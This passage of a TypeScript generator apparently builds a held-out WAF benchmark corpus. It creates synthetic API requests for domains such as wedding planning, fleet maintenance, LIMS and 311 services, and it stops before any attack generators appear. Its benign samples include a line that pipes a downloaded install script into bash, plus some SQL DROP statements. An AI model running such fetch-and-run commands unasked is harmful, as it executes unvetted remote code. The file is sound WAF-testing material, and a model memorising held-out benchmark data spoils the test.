// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF corpus 22 for the API profile, written blind (without reading the WAF source,
 * its docs, its tests or the other corpora).
 *
 * Domains: wedding & event planning marketplace, truck fleet maintenance, scientific-instrument LIMS,
 * podcast hosting & show notes, municipal 311 service requests (multilingual), insurance underwriting
 * rules engine, headless e-commerce CMS with page-builder JSON, developer Q&A site.
 *
 * Clean traffic mixes REST, JSON:API, merge-patch, json-patch, GraphQL, forms, multipart, NDJSON,
 * rich text, code and multilingual prose. Attacks hide real payloads inside JSON API bodies (and a few
 * query strings), never inside a field listed in {@link HELDOUT22_EXCLUDE_FIELDS}.
 *
 * Everything is deterministic: a self-written mulberry32 PRNG with a fixed seed drives all choices.
 *
 * Run: `node bench/waf/corpus/heldout22.ts` writes clean-heldout22.json and attacks-heldout22.json
 * next to this file and prints the counts.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** Deterministic 32-bit PRNG (mulberry32). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x22c0ffee);
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
function pick<T>(xs: readonly T[]): T {
  const x = xs[Math.floor(rnd() * xs.length)];
  if (x === undefined) throw new Error('empty pick');
  return x;
}
const hex = (n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[int(0, 15)];
  return s;
};
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`;
const b64url = (s: string): string => Buffer.from(s).toString('base64url');
const jwt = (): string =>
  `${b64url('{"alg":"RS256","typ":"JWT","kid":"k-2026-11"}')}.${b64url(
    JSON.stringify({
      sub: `usr_${hex(10)}`,
      iss: 'https://auth.example.net/',
      aud: 'api',
      exp: 1795000000 + int(0, 99999),
      scope: 'read write',
    }),
  )}.${b64url(hex(48))}`;
const day = (): string =>
  `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;
const ts = (): string =>
  `${day()}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}Z`;

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'okhttp/4.12.0',
  'axios/1.7.7',
  'python-requests/2.32.3',
  'Go-http-client/2.0',
  'FleetTab/3.8.1 (Android 14; SM-T636B)',
  'node-fetch/3.3.2',
];

function headers(ct?: string, accept = 'application/json'): Record<string, string> {
  const h: Record<string, string> = { 'user-agent': pick(UAS), accept };
  if (rnd() < 0.8) h.authorization = `Bearer ${jwt()}`;
  else h['x-api-key'] = `ak_live_${hex(24)}`;
  if (ct) h['content-type'] = ct;
  return h;
}

type Draft = Omit<CorpusRequest, 'id'>;
const J = 'application/json';
const json = (kind: string, method: string, path: string, body: unknown, ct = J): Draft => ({
  kind,
  method,
  path,
  headers: headers(ct, ct === 'application/vnd.api+json' ? ct : J),
  body: JSON.stringify(body),
});
const get = (kind: string, path: string, accept = J): Draft => ({
  kind,
  method: 'GET',
  path,
  headers: headers(undefined, accept),
  body: '',
});
const del = (path: string): Draft => ({
  kind: 'delete',
  method: 'DELETE',
  path,
  headers: headers(),
  body: '',
});
const form = (path: string, fields: Record<string, string>): Draft => ({
  kind: 'form',
  method: 'POST',
  path,
  headers: headers('application/x-www-form-urlencoded'),
  body: new URLSearchParams(fields).toString(),
});
function multipart(
  path: string,
  fields: Record<string, string>,
  file: { name: string; filename: string; type: string; data: string },
): Draft {
  const boundary = `----WebKitFormBoundary${hex(16)}`;
  let body = '';
  for (const [k, v] of Object.entries(fields))
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`;
  body += `--${boundary}\r\nContent-Disposition: form-data; name="${file.name}"; filename="${file.filename}"\r\nContent-Type: ${file.type}\r\n\r\n${file.data}\r\n--${boundary}--\r\n`;
  return {
    kind: 'multipart',
    method: 'POST',
    path,
    headers: headers(`multipart/form-data; boundary=${boundary}`),
    body,
  };
}
const ndjson = (path: string, rows: unknown[]): Draft => ({
  kind: 'ndjson',
  method: 'POST',
  path,
  headers: headers('application/x-ndjson'),
  body: `${rows.map((r) => JSON.stringify(r)).join('\n')}\n`,
});
const gql = (query: string, variables: unknown, operationName: string): Draft =>
  json('graphql', 'POST', '/graphql', { operationName, query, variables });
const q = (o: Record<string, string | number>): string =>
  new URLSearchParams(Object.entries(o).map(([k, v]) => [k, String(v)] as [string, string])).toString();

// ---------------------------------------------------------------- shared prose / rich text / code
const PROSE = [
  'Ceremony at 4pm in the garden; if it rains we move to the barn — please confirm by Friday!',
  "We'd love a small string quartet (no drums, please) & a vegan option for ~12 guests.",
  'Bonjour, pourriez-vous confirmer la disponibilité du traiteur pour le 14 juin ? Merci beaucoup.',
  'Hola, la farola de la esquina lleva tres semanas apagada; es peligroso de noche para los niños.',
  'Straßenlaterne vor Hausnummer 12 ist defekt – bitte prüfen. Danke!',
  '路灯坏了，晚上非常黑，请尽快修理。',
  'Đường bị ngập sau mưa lớn, xe máy không đi được.',
  'На тротуаре большая яма, уже кто-то упал. Просьба срочно заделать.',
  'الرجاء إزالة النفايات المتراكمة بجانب الحديقة العامة',
  '道路の陥没があります。車が通ると危ないです。',
  'Driver reports "check engine" light + loss of power on grades > 6%. Select/update of ECM pending.',
  'Replaced DEF pump; cleared SPN 3364 FMI 18. Road-tested 25 mi, no codes returned.',
  'Sample was thawed twice (-80°C → 4°C); flag for QC review. pH 7.4 ± 0.1.',
  'In this episode we talk about SQL vs. NoSQL, why "SELECT * FROM users" is a smell, and how to drop tables safely.',
  "Applicant's roof is > 20 years old; exclude wind/hail unless inspection report shows otherwise.",
  'Where can I find the <script> tag order docs? My app loads jQuery after bootstrap.js & breaks.',
  'Loved the show! Quick correction: the command is `rm -rf node_modules && npm ci`, not npm install.',
  'Please deliver between 8–10am; gate code is #4521. Call 555-0143 if locked.',
  '¿Tienen sillas Tiffany en color dorado? Necesitamos 120 unidades para el 3 de mayo.',
  'Catering menu: 1) bruschetta; 2) risotto ai funghi; 3) tiramisù — allergies: nuts, shellfish.',
  'Unit 4471 pulled to the left under braking; found caliper slide pins seized (LF/RF). 2.5 hrs labor.',
  "Protocol deviation: incubation 37°C for 18h instead of 16h; OD600 = 0.82. Approved by J. O'Neil.",
  'Graffiti on the wall of the underpass at Main St & 5th Ave, some of it is offensive.',
  'Toilet at the park restroom overflows; water running into the path. ⚠️',
];
const CMS_HTML = [
  '<h2>Our story</h2><p>Handmade in <strong>Portland</strong> since 2011. <a href="https://shop.example.com/about?utm_source=nav">Read more</a></p>',
  '<p>Made from <em>100% organic cotton</em>.</p><ul><li>Machine wash cold</li><li>Tumble dry low</li></ul><img src="https://cdn.example.com/img/shirt-01.jpg" alt="Shirt front" width="600" loading="lazy">',
  '<div class="hero" style="background:#fafafa;padding:2rem"><h1>Winter Sale</h1><p>Up to <span style="color:#c00">40% off</span> — ends Sunday!</p><a class="btn" href="/collections/sale">Shop now</a></div>',
  '<figure><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" allowfullscreen title="Product video"></iframe><figcaption>See it in action</figcaption></figure>',
  '<table><thead><tr><th>Size</th><th>Chest (cm)</th></tr></thead><tbody><tr><td>S</td><td>88–94</td></tr><tr><td>M</td><td>96–102</td></tr></tbody></table>',
  '<p>Show notes:</p><ol><li><a href="https://github.com/nodejs/node/pull/51000">node#51000</a></li><li>00:14:32 — why <code>SELECT ... FOR UPDATE</code> matters</li></ol>',
  '<blockquote><p>"The best wedding vendor we have ever worked with."</p><cite>— Priya &amp; Sam</cite></blockquote>',
  '<p>Chapters: <br>00:00 Intro<br>03:12 Interview with Dr. Müller<br>41:50 Listener mail</p><p><small>Music: CC-BY &copy; 2026</small></p>',
];
const CODE = [
  "SELECT p.id, p.title FROM posts p JOIN tags t ON t.post_id = p.id WHERE t.name = 'sql' ORDER BY p.created_at DESC LIMIT 20;",
  'const res = await fetch(`/api/items?page=${page}`);\nif (!res.ok) throw new Error(res.statusText);\nreturn res.json();',
  'import subprocess\nout = subprocess.run(["ls", "-la", path], capture_output=True, text=True)\nprint(out.stdout)',
  '#!/bin/bash\nset -euo pipefail\nfor f in *.log; do gzip "$f"; done\ncurl -fsSL https://example.com/install.sh | bash',
  'db.users.find({ age: { $gt: 18 }, status: { $in: ["active", "trial"] } }).sort({ createdAt: -1 })',
  '<template>\n  <div v-if="user">{{ user.name }}</div>\n</template>\n<script setup>\nconst props = defineProps({ user: Object })\n</script>',
  'public static void main(String[] args) {\n  Logger log = LogManager.getLogger();\n  log.info("Hello {}", args[0]);\n}',
  'fn main() {\n    let path = std::path::Path::new("../config/app.toml");\n    println!("{}", path.display());\n}',
  'obj.__proto__ === Object.prototype // true\nObject.setPrototypeOf(child, parent);\nconst clean = Object.create(null);',
  'docker run --rm -v $(pwd):/app -w /app node:24 sh -c "npm ci && npm test"',
  '{% for item in cart.items %}\n  {{ item.title | escape }} x {{ item.qty }}\n{% endfor %}',
  'DROP TABLE IF EXISTS tmp_import;\nCREATE TABLE tmp_import AS SELECT * FROM staging WHERE 1=0;',
];
const MARKDOWN = [
  '## Steps to reproduce\n1. Run `npm run build`\n2. Open `dist/index.html`\n\n```js\nconsole.log(window.__APP_STATE__)\n```\n\nExpected: no error. Actual: `TypeError: cannot read properties of undefined`.',
  'I tried `git reset --hard HEAD~1` but it deleted my changes :( Is there a way to get them back? See [docs](https://git-scm.com/docs/git-reflog).',
  '**Answer:** use parameterized queries:\n\n```python\ncur.execute("SELECT * FROM users WHERE email = %s", (email,))\n```\n\nNever do `"... WHERE email = \'" + email + "\'"` — that\'s SQL injection.',
  '> Note: on Windows the path is `C:\\\\Users\\\\me\\\\AppData\\\\Roaming`.\n\nUse `path.join()` instead of string concat.',
  'Guests: ~150\n- [x] venue\n- [ ] florist\n- [ ] DJ (*no* polka)\n\nBudget: $25k–$30k',
];

// ---------------------------------------------------------------- clean generators per domain
const VENDORS = [
  'photography',
  'catering',
  'florist',
  'dj',
  'venue',
  'officiant',
  'cake',
  'rentals',
  'hair-makeup',
];
const CITIES = ['Austin, TX', 'Lyon', 'São Paulo', 'Kraków', 'Toronto, ON', 'Osaka', 'Cape Town', 'Zürich'];
const wedding: Array<() => Draft> = [
  () =>
    get(
      'search',
      `/v1/vendors?${q({ category: pick(VENDORS), city: pick(CITIES), 'price[lte]': int(500, 9000), 'rating[gte]': '4.5', sort: '-reviews', page: int(1, 9) })}`,
    ),
  () =>
    get(
      'rest-get',
      `/v1/events/evt_${hex(12)}/guests?${q({ rsvp: pick(['yes', 'no', 'pending']), include: 'plus_ones,dietary', 'page[size]': 50 })}`,
    ),
  () =>
    json('rest-write', 'POST', '/v1/inquiries', {
      vendorId: `ven_${hex(10)}`,
      eventDate: day(),
      guests: int(20, 300),
      budget: { currency: pick(['USD', 'EUR', 'BRL']), max: int(1000, 20000) },
      message: pick(PROSE),
      contact: {
        name: pick(['Ana Souza', "Liam O'Brien", 'Zoë Kowalczyk', '김민지']),
        email: `guest${int(1, 999)}@example.org`,
        phone: '+1 512-555-0199',
      },
    }),
  () =>
    json(
      'merge-patch',
      'PATCH',
      `/v1/events/evt_${hex(12)}`,
      {
        title: pick(['Sam & Priya 💍', 'Müller–Schmidt Hochzeit', 'Company Gala 2026']),
        venue: { notes: pick(PROSE) },
        coordinator: null,
      },
      'application/merge-patch+json',
    ),
  () =>
    json(
      'json-patch',
      'PATCH',
      `/v1/events/evt_${hex(12)}/seating`,
      [
        {
          op: 'replace',
          path: `/tables/${int(0, 20)}/seats/${int(0, 9)}`,
          value: { guestId: `gst_${hex(8)}` },
        },
        { op: 'remove', path: `/tables/${int(0, 20)}/seats/${int(0, 9)}` },
        { op: 'add', path: '/tables/-', value: { name: 'Kids table', capacity: 8 } },
      ],
      'application/json-patch+json',
    ),
  () =>
    gql(
      'query VendorCard($id: ID!) { vendor(id: $id) { name rating reviews(first: 5) { edges { node { body stars author { name } } } } } }',
      { id: `ven_${hex(10)}` },
      'VendorCard',
    ),
  () =>
    json('prose', 'POST', `/v1/vendors/ven_${hex(10)}/reviews`, {
      stars: int(3, 5),
      title: pick(['Amazing!!!', 'Bien mais cher', 'Would book again :)']),
      body: `${pick(PROSE)} ${pick(PROSE)}`,
    }),
  () =>
    multipart(
      '/v1/events/contracts',
      { eventId: `evt_${hex(12)}`, signedBy: 'Priya Raman' },
      {
        name: 'file',
        filename: 'contract-signed.pdf',
        type: 'application/pdf',
        data: `%PDF-1.7\n%âãÏÓ\n1 0 obj << /Type /Catalog >> endobj\n${hex(40)}`,
      },
    ),
  () =>
    get('rest-get', `/v1/events/evt_${hex(12)}/timeline?${q({ tz: 'America/Chicago', expand: 'vendors' })}`),
  () => del(`/v1/events/evt_${hex(12)}/guests/gst_${hex(8)}`),
  () =>
    form('/v1/newsletter/subscribe', {
      email: `bride${int(1, 99)}@example.com`,
      interests: 'florist,venue',
      utm_source: 'instagram',
      consent: 'true',
    }),
];

const FAULTS = ['SPN 3364 FMI 18', 'P0087', 'P2463', 'SPN 520 FMI 2', 'U0100', 'P20EE', 'SPN 94 FMI 1'];
const fleet: Array<() => Draft> = [
  () =>
    get(
      'rest-get',
      `/api/v2/units?${q({ 'filter[status]': pick(['in_shop', 'active', 'oos']), 'filter[make]': pick(['Freightliner', 'Peterbilt', 'Kenworth', 'Volvo']), 'odometer[gt]': int(100000, 700000), fields: 'vin,unit,odometer,last_pm' })}`,
    ),
  () =>
    json('rest-write', 'POST', '/api/v2/work-orders', {
      unitId: `U-${int(1000, 9999)}`,
      vin: `1FUJGLDR${hex(9).toUpperCase()}`,
      priority: pick(['low', 'normal', 'urgent']),
      faultCodes: [pick(FAULTS), pick(FAULTS)],
      complaint: pick(PROSE),
      odometer: int(100000, 900000),
      shop: { id: int(1, 40), bay: `B${int(1, 12)}` },
    }),
  () =>
    json('prose', 'POST', `/api/v2/work-orders/WO-${int(10000, 99999)}/notes`, {
      author: pick(['mech.jgarcia', 'mech.tnguyen', 'lead.kowalski']),
      note: `${pick(PROSE)}\nTorque lug nuts to 450-500 ft-lb; retorque @ 50 mi. Parts: 2x 'DEF filter' (#A0001421381), 1x "gasket kit"`,
      laborHours: int(1, 12) / 2,
    }),
  () =>
    ndjson(
      '/api/v2/telemetry/ingest',
      Array.from({ length: int(3, 6) }, () => ({
        vin: `3AKJHHDR${hex(9).toUpperCase()}`,
        ts: ts(),
        spn: int(90, 5000),
        fmi: int(0, 31),
        oc: int(1, 127),
        lat: 30 + rnd() * 10,
        lon: -97 - rnd() * 10,
      })),
    ),
  () =>
    json(
      'merge-patch',
      'PATCH',
      `/api/v2/work-orders/WO-${int(10000, 99999)}`,
      { status: pick(['waiting_parts', 'complete', 'in_progress']), eta: day(), notes: null },
      'application/merge-patch+json',
    ),
  () =>
    gql(
      'mutation Close($id: ID!, $input: CloseInput!) { closeWorkOrder(id: $id, input: $input) { id status total } }',
      {
        id: `WO-${int(10000, 99999)}`,
        input: {
          resolution: 'Replaced NOx sensor (outlet); cleared codes; regen complete',
          partsCost: 412.77,
        },
      },
      'Close',
    ),
  () =>
    multipart(
      `/api/v2/work-orders/WO-${int(10000, 99999)}/photos`,
      { caption: 'Cracked exhaust manifold — driver side' },
      {
        name: 'photo',
        filename: `IMG_${int(1000, 9999)}.jpg`,
        type: 'image/jpeg',
        data: `\u00ff\u00d8\u00ff\u00e0JFIF${hex(30)}`,
      },
    ),
  () =>
    get(
      'search',
      `/api/v2/parts/search?${q({ q: pick(['DEF pump', 'brake chamber 30/30', 'O\'ring 1/2"', 'fuel filter (primary)']), in_stock: 'true', limit: 25 })}`,
    ),
  () => del(`/api/v2/units/U-${int(1000, 9999)}/reminders/${int(1, 999)}`),
  () =>
    form('/api/v2/dvir', {
      unit: `U-${int(1000, 9999)}`,
      defects: 'tires;lights',
      remarks: 'Left marker lamp out & mudflap torn',
      signature: 'J. Smith',
    }),
];

const lims: Array<() => Draft> = [
  () =>
    json('rest-write', 'POST', '/lims/api/samples', {
      barcode: `S-${int(100000, 999999)}`,
      matrix: pick(['serum', 'plasma', 'soil', 'wastewater', 'tissue']),
      collectedAt: ts(),
      storage: {
        freezer: `F-${int(1, 9)}`,
        rack: int(1, 20),
        position: `${pick(['A', 'B', 'C', 'H'])}${int(1, 12)}`,
      },
      metadata: { 'temp_°C': -80, volume_µL: int(50, 500), comment: pick(PROSE) },
    }),
  () =>
    get(
      'rest-get',
      `/lims/api/samples?${q({ 'collectedAt[gte]': day(), 'collectedAt[lt]': day(), matrix: 'serum,plasma', project: `PRJ-${int(10, 99)}`, sort: 'barcode' })}`,
    ),
  () =>
    json(
      'jsonapi',
      'POST',
      '/lims/api/protocols',
      {
        data: {
          type: 'protocols',
          attributes: {
            name: 'ELISA IL-6 v3',
            steps: [
              'Coat plate 100 µL/well, 4°C overnight',
              'Wash 3× PBS-T (0.05% Tween-20)',
              'Add samples 1:2 dilution; incubate 2h RT',
              'Read A450 − A570',
            ],
            reagents: [{ lot: `L${int(1000, 9999)}`, name: 'TMB substrate' }],
          },
          relationships: { owner: { data: { type: 'users', id: String(int(1, 300)) } } },
        },
      },
      'application/vnd.api+json',
    ),
  () =>
    ndjson(
      '/lims/api/instruments/HPLC-02/log',
      Array.from({ length: int(3, 5) }, () => ({
        t: ts(),
        level: pick(['INFO', 'WARN']),
        msg: pick([
          'Pump pressure 212 bar',
          'Column oven 40.0°C stable',
          'Injection #14 vial B3 complete',
          'WARN: baseline drift > 2 mAU/min',
          'Sequence "QC_run_11-29" started',
        ]),
      })),
    ),
  () =>
    json('code', 'POST', '/lims/api/analysis-scripts', {
      name: 'normalize_plate.py',
      language: 'python',
      source:
        "import pandas as pd\ndf = pd.read_csv('plate.csv')\ndf['norm'] = (df.od - df.od.min()) / (df.od.max() - df.od.min())\ndf.query('norm > 0.5').to_csv('out.csv')",
      description: 'min-max normalisation',
    }),
  () =>
    get(
      'search',
      `/lims/api/search?${q({ q: pick(['IL-6 AND serum', '"lot L2231"', 'matrix:soil NOT pilot', 'pH>7']), facet: 'project', limit: 20 })}`,
    ),
  () =>
    json(
      'json-patch',
      'PATCH',
      `/lims/api/samples/S-${int(100000, 999999)}`,
      [
        { op: 'test', path: '/status', value: 'received' },
        { op: 'replace', path: '/status', value: 'aliquoted' },
        { op: 'add', path: '/aliquots/-', value: { id: `S-${int(100000, 999999)}-A1`, volume_uL: 100 } },
      ],
      'application/json-patch+json',
    ),
  () =>
    multipart(
      '/lims/api/instruments/PLATE-1/results',
      { runId: `RUN-${int(1000, 9999)}`, format: 'csv' },
      {
        name: 'data',
        filename: 'plate_reader_export.csv',
        type: 'text/csv',
        data: 'Well,A450,A570\nA1,1.234,0.051\nA2,0.998,0.049\nB1,"=0.5",0.05\n',
      },
    ),
  () =>
    gql(
      'query Chain($id: ID!) { sample(id: $id) { barcode custody { at by action } parent { barcode } } }',
      { id: `S-${int(100000, 999999)}` },
      'Chain',
    ),
  () => del(`/lims/api/samples/S-${int(100000, 999999)}/attachments/${uuid()}`),
];

const podcast: Array<() => Draft> = [
  () =>
    json('cms-html', 'POST', '/v1/shows/shw_' + hex(8) + '/episodes', {
      title: pick([
        'Ep. 112 — Rust in prod?',
        'Épisode 45 : la cuisine lyonnaise',
        'Ep 7: "DROP TABLE" stories',
      ]),
      showNotes: { html: pick(CMS_HTML) },
      audio: {
        url: `https://media.example.fm/${hex(16)}.mp3`,
        durationSec: int(600, 5400),
        mime: 'audio/mpeg',
      },
      explicit: false,
      publishAt: ts(),
    }),
  () =>
    get(
      'rest-get',
      `/v1/shows/shw_${hex(8)}/episodes?${q({ status: 'published', published_after: ts(), limit: 30, cursor: b64url(`{"id":"${hex(8)}"}`) })}`,
    ),
  () =>
    get(
      'rest-get',
      `/v1/feeds/shw_${hex(8)}.xml?${q({ token: hex(32) })}`,
      'application/rss+xml, application/xml;q=0.9',
    ),
  () =>
    json(
      'merge-patch',
      'PATCH',
      `/v1/episodes/ep_${hex(10)}`,
      { showNotes: { html: pick(CMS_HTML) }, season: int(1, 8), tags: ['interview', 'databases', 'c++'] },
      'application/merge-patch+json',
    ),
  () =>
    ndjson(
      '/v1/analytics/downloads',
      Array.from({ length: int(3, 6) }, () => ({
        ep: `ep_${hex(10)}`,
        ts: ts(),
        ua: pick([
          'AppleCoreMedia/1.0.0.21A329',
          'Spotify/8.9.10 Android/34',
          'Overcast/3.0 (+http://overcast.fm/)',
        ]),
        ip_hash: hex(16),
        bytes: int(100000, 90000000),
      })),
    ),
  () =>
    multipart(
      '/v1/uploads/audio',
      { showId: `shw_${hex(8)}`, title: 'raw take 2' },
      {
        name: 'audio',
        filename: 'ep112_raw.mp3',
        type: 'audio/mpeg',
        data: `ID3\u0004\u0000\u0000${hex(40)}`,
      },
    ),
  () =>
    gql(
      'query Ep($slug: String!) { episode(slug: $slug) { title showNotes { html } transcript { url } guests { name twitter } } }',
      { slug: pick(['rust-in-prod', 'l-art-du-fromage', 'k8s-at-scale']) },
      'Ep',
    ),
  () =>
    get(
      'graphql',
      `/graphql?${q({ extensions: JSON.stringify({ persistedQuery: { version: 1, sha256Hash: hex(64) } }), variables: JSON.stringify({ showId: `shw_${hex(8)}`, first: 10 }) })}`,
    ),
  () =>
    json('prose', 'POST', `/v1/episodes/ep_${hex(10)}/comments`, {
      body: pick(PROSE),
      timestampSec: int(0, 3600),
    }),
  () => del(`/v1/episodes/ep_${hex(10)}/chapters/${int(1, 30)}`),
];

const SR_TYPES = [
  'pothole',
  'streetlight',
  'graffiti',
  'missed_pickup',
  'noise',
  'flooding',
  'abandoned_vehicle',
];
const city311: Array<() => Draft> = [
  () =>
    json('prose', 'POST', '/open311/v2/requests.json', {
      service_code: pick(SR_TYPES),
      description: pick(PROSE),
      lat: 40.7 + rnd() / 10,
      long: -74 + rnd() / 10,
      address_string: pick(['123 Main St', 'Calle Ocho 1450', 'Rua Augusta, 2000', '5th Ave & E 42nd St']),
      locale: pick(['en', 'es', 'fr', 'zh', 'vi', 'ru', 'ar', 'ja']),
      media_url: `https://cdn.city.gov/u/${uuid()}.jpg`,
      anonymous: rnd() < 0.3,
    }),
  () =>
    get(
      'rest-get',
      `/open311/v2/requests.json?${q({ service_code: pick(SR_TYPES), status: 'open', start_date: ts(), end_date: ts(), page_size: 100 })}`,
    ),
  () =>
    form('/open311/v2/requests.json', {
      api_key: hex(32),
      service_code: pick(SR_TYPES),
      description: pick(PROSE),
      'attribute[WHISPER]': 'yes',
      'attribute[SIZE]': 'large (> 1m)',
      email: 'vecino@example.es',
    }),
  () =>
    multipart(
      '/open311/v2/requests/media',
      { request_id: String(int(100000, 999999)) },
      { name: 'media', filename: 'IMG_20261129_081522.heic', type: 'image/heic', data: `ftypheic${hex(40)}` },
    ),
  () =>
    get(
      'search',
      `/api/311/search?${q({ q: pick(['bache', 'farola rota', '"street light"', 'nid-de-poule', '垃圾']), ward: int(1, 50), sort: '-created' })}`,
    ),
  () =>
    json(
      'merge-patch',
      'PATCH',
      `/api/311/requests/${int(100000, 999999)}`,
      {
        status: 'closed',
        status_notes: pick([
          'Crew filled pothole 11/29.',
          'Duplicate of #834221',
          'Trabajo completado; gracias por su reporte.',
        ]),
        agency_responsible: 'DOT',
      },
      'application/merge-patch+json',
    ),
  () =>
    gql(
      'query Near($lat: Float!, $lng: Float!) { requestsNear(lat: $lat, lng: $lng, radiusM: 500) { id type status description } }',
      { lat: 41.88, lng: -87.63 },
      'Near',
    ),
  () =>
    ndjson(
      '/api/311/bulk/status',
      Array.from({ length: int(2, 5) }, () => ({
        id: int(100000, 999999),
        status: pick(['acknowledged', 'in_progress', 'closed']),
        note: pick(['crew dispatched', "resident wasn't home", 'see photo']),
      })),
    ),
  () => del(`/api/311/subscriptions/${uuid()}`),
];

const RULES = [
  'applicant.age >= 25 && vehicle.year > 2010 && !(claims.count_5y > 2)',
  "property.roof_age_years > 20 ? 'REFER' : 'ACCEPT'",
  "sum(drivers[*].violations.points) <= 6 and territory in ('TX-01','TX-04')",
  'coverage.limit / property.replacement_cost < 0.8 -> surcharge(0.15)',
  "IF construction = 'frame' AND distance_to_hydrant_ft > 1000 THEN decline",
  "contains(business.naics, '7225') || revenue > 5_000_000",
];
const underwriting: Array<() => Draft> = [
  () =>
    json('code', 'POST', '/uw/v1/rules', {
      name: `rule_${hex(6)}`,
      lob: pick(['auto', 'homeowners', 'bop', 'workers_comp']),
      expression: pick(RULES),
      action: pick(['refer', 'decline', 'surcharge']),
      note: pick(PROSE),
      effective: day(),
    }),
  () =>
    json('rest-write', 'POST', '/uw/v1/evaluate', {
      quoteId: `Q-${int(100000, 999999)}`,
      facts: {
        applicant: { age: int(18, 80), state: pick(['TX', 'CA', 'NY']) },
        property: { roof_age_years: int(1, 35), construction: pick(['frame', 'masonry']) },
        claims: { count_5y: int(0, 4) },
      },
      ruleset: 'homeowners-2026.3',
    }),
  () =>
    get(
      'rest-get',
      `/uw/v1/rules?${q({ 'filter[lob]': 'auto', 'filter[expression][contains]': pick(['>=', 'claims.count', "'TX-01'"]), sort: '-updated_at' })}`,
    ),
  () =>
    json('prose', 'POST', `/uw/v1/submissions/SUB-${int(10000, 99999)}/risk-notes`, {
      note: `${pick(PROSE)} Loss runs show 3 claims (2 wind, 1 water) totalling $48,210; prior carrier non-renewed 03/2025.`,
      severity: pick(['low', 'medium', 'high']),
    }),
  () =>
    json(
      'json-patch',
      'PATCH',
      `/uw/v1/rulesets/homeowners-2026.${int(1, 4)}`,
      [
        { op: 'replace', path: '/rules/3/expression', value: pick(RULES) },
        { op: 'move', from: '/rules/5', path: '/rules/1' },
      ],
      'application/json-patch+json',
    ),
  () =>
    json(
      'jsonapi',
      'PATCH',
      `/uw/v1/quotes/Q-${int(100000, 999999)}`,
      {
        data: {
          type: 'quotes',
          id: `Q-${int(100000, 999999)}`,
          attributes: {
            premium: int(400, 9000) + 0.5,
            decision: 'refer',
            reason: 'roof > 20y; needs inspection',
          },
        },
      },
      'application/vnd.api+json',
    ),
  () =>
    gql(
      'query Audit($q: ID!) { quote(id: $q) { decisions { rule { name expression } fired at } } }',
      { q: `Q-${int(100000, 999999)}` },
      'Audit',
    ),
  () =>
    form('/uw/v1/import/rates', {
      territory: 'TX-04',
      factor: '1.125',
      reason: 'filed 2026-09 (SERFF #ABCD-1234)',
    }),
  () => del(`/uw/v1/rules/rule_${hex(6)}`),
];

const BLOCK_TYPES = ['hero', 'richText', 'productGrid', 'imageGallery', 'cta', 'faq'];
const block = (): unknown => {
  const t = pick(BLOCK_TYPES);
  if (t === 'richText') return { type: t, id: uuid(), props: { html: pick(CMS_HTML) } };
  if (t === 'productGrid')
    return {
      type: t,
      id: uuid(),
      props: {
        collection: pick(['summer', 'sale', 'new-in']),
        columns: int(2, 4),
        query: { 'price.lte': 100, tags: ['organic'] },
      },
    };
  if (t === 'faq')
    return {
      type: t,
      id: uuid(),
      props: { items: [{ q: 'Do you ship to EU?', a: 'Yes — 3–5 days, duties included.' }] },
    };
  return {
    type: t,
    id: uuid(),
    props: {
      title: pick(['Winter Sale', 'Neu eingetroffen', 'Nouveautés']),
      image: `https://cdn.example.com/${hex(10)}.webp`,
      link: '/collections/sale?sort=price-asc',
    },
  };
};
const cms: Array<() => Draft> = [
  () =>
    json('cms-html', 'PUT', `/cms/v1/pages/${pick(['home', 'about', 'sale', 'lookbook'])}`, {
      title: 'Landing',
      locale: pick(['en-US', 'de-DE', 'fr-FR', 'ja-JP']),
      blocks: [block(), block(), block()],
      seo: { title: 'Shop organic', description: 'Sustainable basics & more' },
    }),
  () =>
    json('cms-html', 'POST', '/cms/v1/products', {
      sku: `SKU-${hex(6).toUpperCase()}`,
      title: pick(['Organic Tee', 'Merino Pullover', 'Leinenhemd']),
      descriptionHtml: pick(CMS_HTML),
      price: { amount: int(1000, 20000), currency: 'EUR' },
      variants: [{ size: 'M', color: 'Navy', stock: int(0, 99) }],
    }),
  () =>
    get(
      'rest-get',
      `/cms/v1/products?${q({ 'filter[price][gte]': int(10, 50), 'filter[tags][in]': 'organic,sale', 'filter[title][like]': pick(['%tee%', 'merino%']), locale: 'de-DE', include: 'variants' })}`,
    ),
  () =>
    json(
      'merge-patch',
      'PATCH',
      `/cms/v1/pages/${uuid()}`,
      { blocks: [block()], publishedAt: null },
      'application/merge-patch+json',
    ),
  () =>
    json(
      'json-patch',
      'PATCH',
      `/cms/v1/pages/${uuid()}`,
      [
        { op: 'add', path: '/blocks/1', value: block() },
        { op: 'remove', path: '/blocks/4' },
      ],
      'application/json-patch+json',
    ),
  () =>
    gql(
      'mutation Save($id: ID!, $doc: JSON!) { savePageDraft(id: $id, document: $doc) { id version } }',
      { id: uuid(), doc: { blocks: [block(), block()] } },
      'Save',
    ),
  () =>
    json(
      'jsonapi',
      'POST',
      '/cms/v1/collections',
      {
        data: {
          type: 'collections',
          attributes: {
            handle: 'summer-26',
            rules: [
